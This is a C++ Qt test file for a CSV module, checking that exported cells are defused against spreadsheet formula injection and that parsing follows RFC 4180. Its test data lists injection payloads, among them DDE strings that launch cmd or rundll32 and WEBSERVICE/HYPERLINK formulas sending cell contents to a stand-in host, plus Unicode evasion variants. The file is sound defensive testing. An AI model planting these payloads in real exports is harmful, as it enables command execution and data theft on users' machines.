#include <QTest>
#include <sstream>

#include "shared/base/limits.h"
#include "shared/exchange/csv_text.h"

using namespace zhixing;
using namespace zhixing::exchange;

namespace {

using Rows = std::vector<std::vector<std::string>>;

Result<Rows> rowsOf(const std::string& text) {
    std::istringstream in(text);
    CsvRows reader(in);
    Rows rows;
    std::vector<std::string> cells;
    for (;;) {
        ZX_ASSIGN(const bool hasRow, reader.next(cells));
        if (!hasRow) return rows;
        rows.push_back(cells);
    }
}

/// Looks at a cell as a spreadsheet program might that splits at any separator, trims, and takes what begins like a
/// formula for one. Written apart from the code it judges.
bool isLive(const QString& cell) {
    const QString signs = QStringLiteral("=+-@\uFF1D\uFF0B\uFF0D\uFF20\uFE66\uFE62\uFE63\uFE6B");
    const auto beginsLive = [&](QString part) {
        while (!part.isEmpty() &&
               (part.front().isSpace() || part.front() == QChar(0x200B) || part.front() == QChar(0xFEFF)))
            part.remove(0, 1);
        return !part.isEmpty() && signs.contains(part.front());
    };
    if (!cell.isEmpty() && QStringLiteral("\t\r\n").contains(cell.front())) return true;
    if (!cell.isEmpty() && cell.front().isNull()) return true;
    QString part;
    for (const QChar c : cell + QChar(',')) {
        if (!QStringLiteral(",;|\t\r\n\"").contains(c)) {
            part += c;
            continue;
        }
        if (beginsLive(part)) return true;
        part.clear();
    }
    return false;
}

}  // namespace

class TestCsvText : public QObject {
    Q_OBJECT

private slots:
    void neutralised_isNeverLiveAndComesBackExactly_data() {
        QTest::addColumn<QString>("payload");
        const QStringList payloads = {
            "=1+1",
            "+1+1",
            "-1+1",
            "@SUM(1)",
            "=cmd|' /C calc'!A0",
            "+cmd|' /C calc'!A0",
            "-cmd|' /C calc'!A0",
            "@cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://x/?\"&A1,\"看\")",
            "=IMPORTXML(\"http://x\",\"//a\")",
            "=WEBSERVICE(\"http://x/\"&A1)",
            "=DDE(\"cmd\",\"/C calc\",\"!A0\")",
            "=rundll32|'URL.dll,OpenURL calc'!A",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "\r\n=1+1",
            "\t1",
            "\r1",
            "\n1",
            " =1+1",
            "   =1+1",
            QStringLiteral("\u00A0=1+1"),
            QStringLiteral("\u3000=1+1"),
            QStringLiteral("\u200B=1+1"),
            QStringLiteral("\uFEFF=1+1"),
            QStringLiteral("\uFF1D1+1"),
            QStringLiteral("\uFF0B1+1"),
            QStringLiteral("\uFF0D1+1"),
            QStringLiteral("\uFF20SUM(1)"),
            QStringLiteral("\uFE661+1"),
            QStringLiteral("\uFE621+1"),
            QStringLiteral("\uFE631+1"),
            QStringLiteral("\uFE6BSUM(1)"),
            QStringLiteral("\u3000\uFF1D1+1"),
            "a,=1+1",
            "a;=1+1",
            "a|=1+1",
            "a\t=1+1",
            "a\n=1+1",
            "a\r\n=1+1",
            "a\"=1+1",
            "a\",=1+1,\"",
            "\"=1+1\"",
            "\"\"=1+1",
            "a; =1+1",
            "a;\t-1",
            QStringLiteral("a;\uFF1D1+1"),
            ";=1+1;+2;-3;@4",
            "'=1+1",
            "''=1+1",
            "'''=1+1",
            "a;'=1+1",
            "' =1+1",
            "'\t=1",
            "=",
            "+",
            "-",
            "@",
            "-5%",
            "+8613800000000",
            "@所有人 到货了吗",
            "=\"'\"&A1",
            "=-+@",
            ",,,=1",
            "\"\"\"=1",
            "a\"\"\n\"=1\"",
            "=1+1\n=2+2\n=3+3",
            "%0A=1+1",
        };
        int number = 0;
        for (const QString& payload : payloads) QTest::addRow("%d", ++number) << payload;
        QTest::newRow("NUL") << QString(QChar(u'\0')) + "=1+1";
        QVERIFY(number >= 60);
    }

    void neutralised_isNeverLiveAndComesBackExactly() {
        QFETCH(QString, payload);
        const std::string text = payload.toStdString();
        QVERIFY(isLive(payload) || payload.startsWith('\'') || payload.contains(";'") || payload.startsWith('%'));

        const std::string cell = neutralised(text);

        QVERIFY2(!isLive(QString::fromStdString(cell)), cell.c_str());
        QCOMPARE(unneutralised(cell), text);
    }

    void neutralised_leavesHarmlessTextAlone_data() {
        QTest::addColumn<QString>("text");
        for (const char* text : {"", "小红书KOC种草", "a = b", "3-5天", "10:30", "it's", "'quoted'", "a, b; c",
                                 "50篇 x 100元", "x=1, y=2", "mail@example.org", "100%"})
            QTest::newRow(text) << QString::fromUtf8(text);
    }

    void neutralised_leavesHarmlessTextAlone() {
        QFETCH(QString, text);

        QCOMPARE(neutralised(text.toStdString()), text.toStdString());
        QCOMPARE(unneutralised(text.toStdString()), text.toStdString());
    }

    void neutralised_ofAnyText_comesBackExactly() {
        const std::string alphabet[] = {"'", "=", "-", ";", "\"", " ", "\t", "\n", "a", "＝", "，"};
        std::uint64_t state = 20251022;
        for (int round = 0; round < 20'000; ++round) {
            std::string text;
            for (std::uint64_t length = (state >> 33) % 9; length > 0; --length) {
                state = state * 6364136223846793005ULL + 1442695040888963407ULL;
                text += alphabet[(state >> 33) % std::size(alphabet)];
            }
            state = state * 6364136223846793005ULL + 1442695040888963407ULL;

            const std::string cell = neutralised(text);

            QVERIFY2(!isLive(QString::fromStdString(cell)), cell.c_str());
            QCOMPARE(unneutralised(cell), text);
        }
    }

    void rows_areReadAsRfc4180Says() {
        const auto rows = rowsOf(
            "\xEF\xBB\xBF"
            "a,b,c\r\n1,\"x, \"\"y\"\"\r\nz\",\r\n\r\n,,\nlast,\"\",3");

        QVERIFY(rows.ok());
        QCOMPARE(*rows, (Rows{{"a", "b", "c"}, {"1", "x, \"y\"\r\nz", ""}, {"", "", ""}, {"last", "", "3"}}));
    }

    void rows_ofNothing_areNone() {
        QCOMPARE(*rowsOf(""), Rows{});
        QCOMPARE(*rowsOf("\xEF\xBB\xBF"), Rows{});
        QCOMPARE(*rowsOf("\n\r\n"), Rows{});
    }

    void appendTextCell_thenRead_givesTheTextBack() {
        for (const std::string text : {"", "a\"b", "=1+1", "第一行\n第二行, \"三\"", "'=x", "\t"}) {
            std::string row;
            appendTextCell(row, text);
            const auto rows = rowsOf(row + ",end\r\n");

            QVERIFY(rows.ok());
            QCOMPARE(unneutralised((*rows)[0][0]), text);
        }
    }

    void malformedRows_areRefusedWithTheirLine_data() {
        QTest::addColumn<QByteArray>("text");
        QTest::addColumn<int>("code");
        QTest::addColumn<QString>("line");
        QTest::newRow("open quote") << QByteArray("a\n\"b\nc") << int(Code::malformed) << "line 2:";
        QTest::newRow("text after quote") << QByteArray("a\n\"b\"c") << int(Code::malformed) << "line 2:";
        QTest::newRow("quote in the middle") << QByteArray("a\nb\n c\"d\"") << int(Code::malformed) << "line 3:";
        QTest::newRow("lone return") << QByteArray("a\rb") << int(Code::malformed) << "line 1:";
        QTest::newRow("GBK") << QByteArray("a\n\xD6\xD0\xCE\xC4") << int(Code::bad_encoding) << "line 2:";
        QTest::newRow("NUL") << QByteArray("a\nb\0c", 5) << int(Code::bad_encoding) << "line 2:";
        QTest::newRow("long cell") << QByteArray("a\n") + QByteArray(int(limits::stringBytesMax) + 1, 'x')
                                   << int(Code::too_large) << "line 2:";
        QTest::newRow("many cells") << QByteArray("a\n") + QByteArray(int(limits::jsonMembersMax), ',')
                                    << int(Code::too_many) << "line 2:";
        QTest::newRow("long row") << QByteArray("a\n") + (QByteArray(60'000, 'x') + ",").repeated(5)
                                  << int(Code::too_large) << "line 2:";
    }

    void malformedRows_areRefusedWithTheirLine() {
        QFETCH(QByteArray, text);
        QFETCH(int, code);
        QFETCH(QString, line);

        const auto rows = rowsOf(text.toStdString());

        QCOMPARE(int(rows.error().code), code);
        QVERIFY2(QString::fromStdString(rows.error().message).startsWith(line), rows.error().message.c_str());
    }

    void rows_atTheirLimits_areTaken() {
        QVERIFY(rowsOf(std::string(limits::stringBytesMax, 'x')).ok());
        QVERIFY(rowsOf(std::string(limits::jsonMembersMax - 1, ',')).ok());
    }
};

QTEST_GUILESS_MAIN(TestCsvText)
#include "tst_csv_text.moc"
